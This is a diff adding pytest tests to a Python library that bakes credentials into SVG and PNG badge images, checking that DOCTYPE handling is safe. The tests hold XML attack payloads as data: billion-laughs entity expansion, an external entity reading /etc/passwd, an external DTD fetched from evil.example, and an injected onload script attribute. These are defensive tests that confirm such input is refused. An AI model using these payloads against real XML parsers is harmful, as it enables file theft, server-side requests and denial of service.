@@ -3,6 +3,7 @@ from __future__ import annotations
 import json
 import struct
 import zlib
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -10,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from images import SVG, png
-from openmicrocred.bake import bake, unbake
+from openmicrocred.bake import bake, is_svg, unbake
 from openmicrocred.bake.png import KEYWORD
 from openmicrocred.errors import BakeError
 
@@ -124,3 +125,80 @@ def test_png_bakes_any_text(text: Any) -> None:
 @given(st.dictionaries(st.text(max_size=10), st.text(max_size=50), max_size=5))
 def test_svg_bakes_any_json(data: dict[str, str]) -> None:
     assert json.loads(unbake(bake(SVG, data))) == data
+
+
+# Document type declarations ------------------------------------------------------------------
+
+VALIDATOR_SVG = Path(__file__).parent / "vectors" / "1edtech-validator-svg"
+_DOCTYPE = (
+    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
+)
+
+
+def test_svg_with_a_doctype_reads_and_bakes() -> None:
+    # 1EdTech's own fixtures carry the SVG 1.1 DOCTYPE; the external DTD is never read.
+    image = (VALIDATOR_SVG / "simple-json.svg").read_bytes()
+    assert b"<!DOCTYPE svg PUBLIC" in image
+    credential = json.loads(unbake(image))
+    assert credential["type"] == ["VerifiableCredential", "OpenBadgeCredential"]
+    assert credential["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"
+    assert unbake((VALIDATOR_SVG / "simple-jwt.svg").read_bytes()).startswith("eyJ")
+    # Our own SVG with a DOCTYPE (no XML declaration) is recognised, baked and read back.
+    doctyped = _DOCTYPE + SVG.split(b"?>\n", 1)[1]
+    assert is_svg(doctyped)
+    data = load(SPEC / "ob3-basic.unsigned.json")
+    baked = bake(doctyped, data)
+    assert baked.startswith(_DOCTYPE)
+    assert json.loads(unbake(baked)) == data
+    # A subset with only element declarations and comments declares nothing that expands.
+    plain = b"<!DOCTYPE svg [<!ELEMENT svg ANY><!-- note -->]>\n" + SVG.split(b"?>\n", 1)[1]
+    assert unbake(bake(plain, JWS)) == JWS
+
+
+_SVG_BODY = b'<svg xmlns="http://www.w3.org/2000/svg"><title>&a;</title></svg>'
+
+
+@pytest.mark.parametrize(
+    ("subset", "message"),
+    [
+        # an internal subset declaring an entity
+        (b'<!ENTITY a "Teamwork">', r"declares an XML entity 'a'.*never expanded"),
+        # billion laughs
+        (
+            b'<!ENTITY a0 "lol">'
+            + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10))
+            + b'<!ENTITY a "&a9;">',
+            r"declares an XML entity 'a0'",
+        ),
+        # an external entity, and an external parameter entity
+        (
+            b'<!ENTITY a SYSTEM "file:///etc/passwd">',
+            r"declares an external entity 'a' \(SYSTEM 'file:///etc/passwd'\)",
+        ),
+        (
+            b'<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;',
+            r"declares an external entity 'p' \(SYSTEM 'https://evil.example/x.dtd'\)",
+        ),
+        # a default attribute would change the document without showing in it
+        (b'<!ATTLIST svg onload CDATA "alert(1)">', r"declares attribute 'onload' of <svg>"),
+    ],
+    ids=["entity", "billion-laughs", "external-entity", "external-parameter-entity", "attlist"],
+)
+def test_svg_dtd_declarations_are_refused(subset: bytes, message: str) -> None:
+    image = b'<?xml version="1.0"?>\n<!DOCTYPE svg [' + subset + b"]>\n" + _SVG_BODY
+    assert is_svg(image)
+    with pytest.raises(BakeError, match=r"^unsafe SVG refused: the DTD " + message):
+        unbake(image)
+    with pytest.raises(BakeError, match="unsafe SVG refused"):
+        bake(image, JWS)
+
+
+def test_svg_undeclared_entity_and_oversized_input_are_refused() -> None:
+    # With the external DTD unread, &nbsp; stays undefined: a clear well-formedness error.
+    image = _DOCTYPE + b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>'
+    with pytest.raises(BakeError, match="not a well-formed SVG: undefined entity &nbsp;"):
+        unbake(image)
+    huge = _DOCTYPE + b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * 20_000_000 + b"</svg>"
+    with pytest.raises(BakeError, match=r"SVG too large \(\d+ bytes; at most 20000000\)"):
+        unbake(huge)
